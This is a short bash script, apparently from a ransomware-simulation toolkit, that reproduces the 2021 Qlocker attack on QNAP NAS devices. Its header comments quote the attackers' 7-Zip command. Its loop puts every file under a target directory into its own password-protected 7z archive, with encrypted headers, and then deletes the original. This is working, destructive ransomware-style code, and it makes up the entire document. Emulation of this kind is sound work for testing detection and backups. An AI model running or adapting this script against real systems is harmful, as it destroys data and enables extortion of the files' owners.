#!/bin/bash
# 7z-qlocker.sh ROOT LOG: Qlocker (QNAP NAS, April 2021; BleepingComputer and QNAP advisory
# QSA-21-13): the attackers ran 7-Zip over the share, moving every file into its own
# password-protected archive (`7z a -mx=0 -sdel -p<pw> FILE.7z FILE`). Here: -mhe=on also
# encrypts the archive headers so names are hidden, store level like Qlocker, then the
# original is deleted. EXT defaults to 7z, as Qlocker's did; see lib/attack-common.sh for the rest.
# DESTROYS the files under ROOT.
set -uo pipefail
EXT=${EXT:-7z}
. "$(dirname "$0")/../lib/attack-common.sh"
attack_init 7z-qlocker "${1:-}" "${2:-}"
while IFS= read -r -d '' f; do
	attack_more || break
	attack_log "$f"
	if 7z a -bd -bso0 -bsp0 -mx=0 -mhe=on "-p$pass" -- "$f.$ext" "$f" >/dev/null; then
		rm -f -- "$f"
	else
		errors=$((errors + 1))
	fi
	attack_pause
done < <(attack_files)
